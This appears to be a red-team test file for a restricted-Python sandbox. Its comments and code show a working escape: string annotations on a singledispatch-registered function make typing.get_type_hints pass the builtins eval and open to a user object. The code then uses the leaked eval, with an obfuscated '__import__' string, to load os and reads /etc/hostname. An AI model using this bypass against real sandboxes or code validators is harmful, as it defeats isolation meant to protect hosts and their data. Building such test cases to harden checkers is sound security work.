# family: red team, round 8 (register_return_annotation_eval)
# @dispatch.register checks the annotations of positional and keyword-only parameters (dispatch_annotations),
# but typing.get_type_hints evaluates every annotation, including the return annotation and *args/**kwargs.
# The string annotation rule only checks the shape (Name[Name]), not which names it uses, so "keeper[eval]"
# hands the builtin eval to keeper.__getitem__.
import functools


class Keeper:
    def __init__(self):
        self.kept = []

    def __getitem__(self, key):
        self.kept.append(key)
        return int


keeper = Keeper()


@functools.singledispatch
def dispatch(x):
    return x


@dispatch.register
def _(x: int, *rest: "keeper[open]") -> "keeper[eval]":
    return None


def run():
    op, ev = keeper.kept[0], keeper.kept[1]
    u = "_"
    osmod = ev(u + u + "import" + u + u + "('os')")
    return ev.__name__, op.__name__, type(osmod).__name__, osmod.getpid(), op("/etc/hostname").read().strip()


print(run())
